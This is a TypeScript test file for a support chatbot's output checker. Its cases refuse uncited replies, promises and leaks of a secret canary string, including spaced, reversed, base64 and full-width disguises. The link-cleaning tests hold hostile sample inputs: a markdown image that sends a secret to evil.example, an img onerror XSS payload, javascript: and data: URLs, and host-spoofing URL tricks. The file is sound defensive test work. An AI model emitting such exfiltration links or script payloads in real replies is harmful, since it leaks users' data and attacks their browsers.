import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Finding } from '../bot.ts';
import { clean, judge } from './grounding.ts';

const shown: Finding[] = [
  { answerId: 'a', question: 'How long does a refund take?', answer: '3 to 7 business days, see https://help.example/refund', locale: 'en', confidence: 0.8, url: 'https://help.example/refund' },
  { answerId: 'b', question: 'Shipping?', answer: 'It costs 5 dollars.', locale: 'en', confidence: 0.4 },
  { answerId: 'c', question: 'Weather?', answer: 'Sunny.', locale: 'en', confidence: 0.05 },
];
const CANARY = 'hub-7f3a9c11';
const judged = (said: string, asked = 'refund of order 4711?') => judge(said, shown, asked, CANARY);

describe('what a model says', () => {
  test('is sent with its sources, without the marks', () => {
    expect(judged('Your refund takes 3 to 7 business days [1]. Shipping is 5 dollars 【2】.')).toEqual({
      reply: { kind: 'reply', text: 'Your refund takes 3 to 7 business days. Shipping is 5 dollars.', confidence: 0.8, sources: [{ id: 'a', title: 'How long does a refund take?', url: 'https://help.example/refund' }, { id: 'b', title: 'Shipping?' }] },
    });
    expect(judged('1. Open order 4711.\n2. Wait 3 to 7 days. [1, 2]')).toMatchObject({ reply: { sources: [{ id: 'a' }, { id: 'b' }] } });
  });
  test.each([
    ['', 'empty'], ['[1]', 'empty'], ['HANDOVER', 'no-answer'], ['**HANDOVER**', 'no-answer'], ['Paris is lovely.', 'uncited'], ['Paris [9].', 'unknown-source'],
    ['Fine [1][9].', 'unknown-source'], ['It is sunny [3].', 'far-fetched'], ['It takes 2 days [1].', 'unsupported-number'], ['You get 500 dollars back [1].', 'unsupported-number'],
    ['We guarantee it [1].', 'promise'], ['我们保证给您赔偿 [1]', 'promise'], [`My reference is ${CANARY} [1].`, 'leak'], [`h u b - 7 f 3 a 9 c 1 1 [1]`, 'leak'],
    [`${[...CANARY].toReversed().join('')} [1]`, 'leak'], [`${btoa(CANARY)} [1]`, 'leak'], [`ＨＵＢ－７Ｆ３Ａ９Ｃ１１ [1]`, 'leak'],
  ])('%s is refused: %s', (said, refused) => expect(judged(said)).toEqual({ refused }));
});

test('images, markup and links to hosts no source names are taken out', () => {
  const hosts = new Set(['help.example']);
  expect(clean('See ![x](https://evil.example/?q=secret) now', hosts)).toBe('See now');
  expect(clean('See ![x][1] <img src=//evil.example/a.png onerror=alert(1)> now', hosts)).toBe('See now');
  expect(clean('[Read](https://help.example/refund) or [this](https://evil.example/x)', hosts)).toBe('Read (https://help.example/refund) or this');
  expect(clean('https://help.example@evil.example/ https://help.example.evil.example/ www.evil.example/x javascript:alert(1) data:text/html,x', hosts)).not.toMatch(/evil|alert|data/);
  expect(clean('<https://evil.example/> https\u200b://evil.example/ [a]: https://evil.example', hosts)).not.toContain('evil');
  expect(clean('<script>alert(1)</script>', hosts)).toBe('alert(1)');
});

test('no text breaks the judgement, and what is sent names no foreign host', () => {
  const piece = fc.oneof(fc.constantFrom('[1]', '![', '](', ')', '<', '>', 'https://evil.example/a', 'www.evil.example', '[2]', 'x', ' ', '\n', '(', '<img', '"', 'http://help.example/'), fc.string({ unit: 'binary', maxLength: 8 }));
  fc.assert(fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
    const result = judge(pieces.join(''), shown, '', CANARY);
    if ('reply' in result) expect(result.reply.text).not.toMatch(/https?:\/\/evil|(?<![/.\w@])www\.evil|!\[[^\]]*\]\(/i);
  }), { numRuns: 2_000 });
  const start = performance.now();
  for (const text of ['![a'.repeat(50_000), '[a]('.repeat(50_000), '<a'.repeat(50_000), '[1,'.repeat(50_000), '[1] '.repeat(50_000)]) judge(text, shown, '', CANARY);
  expect(performance.now() - start).toBeLessThan(3_000);
});
